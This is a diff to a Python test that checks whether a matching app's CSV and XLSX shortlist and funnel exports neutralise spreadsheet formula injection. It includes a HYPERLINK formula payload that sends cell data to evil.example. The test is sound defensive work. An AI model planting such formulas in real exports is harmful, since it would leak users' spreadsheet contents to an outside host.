@@ -18,7 +18,7 @@ from klimatmatch.matching import export
 from klimatmatch.matching import service as matching
 from klimatmatch.matching.export import ExportFormat
 from matcher import Embedder, MatchEngine
-from models import Decision, Review, crud
+from models import Decision, Review, RunReason, crud
 from tests.klimatmatch.engagement_world import challenge, people
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?c="&A2,"SiteCharge Nordic")'
@@ -100,8 +100,12 @@ def test_the_shortlist_export_escapes_names_titles_and_reasons(
     engine = MatchEngine(tfidf)
     indexing.rebuild(session=session, engine=engine)
     target = challenge(session)
-    run = matching.challenge_shortlist(
-        session=session, engine=engine, challenge_id=target.id, k=5, user=who.coordinator
+    run = matching.keep(
+        session=session,
+        run=matching.challenge_shortlist(
+            session=session, engine=engine, challenge_id=target.id, k=5, user=who.coordinator
+        ),
+        reason=RunReason.EXPORTED,
     )
     ranked = [result.company_id for result in run.results]
     target.title = TITLE
@@ -125,8 +129,9 @@ def test_the_shortlist_export_escapes_names_titles_and_reasons(
     for hostile in HOSTILE:
         assert "'" + hostile.replace("\r", "\n") in lines
     if fmt is ExportFormat.XLSX:
-        scores = [c for c in xlsx_cells(content) if c.column == 7 and c.row > 1]
-        assert len(scores) == 5 and all(isinstance(c.value, float) for c in scores)
-    rows = funnel.frame(funnel.funnel(session=session, user=who.stockholm))
+        for column in (7, 8):  # strength and score: numbers, not text
+            numbers = [c for c in xlsx_cells(content) if c.column == column and c.row > 1]
+            assert len(numbers) == 5 and all(isinstance(c.value, float) for c in numbers)
+    rows = funnel.frame(funnel.funnel(session=session, user=who.stockholm, engine=engine, k=5))
     funnel_file = export.render(rows, fmt, sheet="funnel")
     assert "'" + TITLE in assert_inert(funnel_file, fmt)
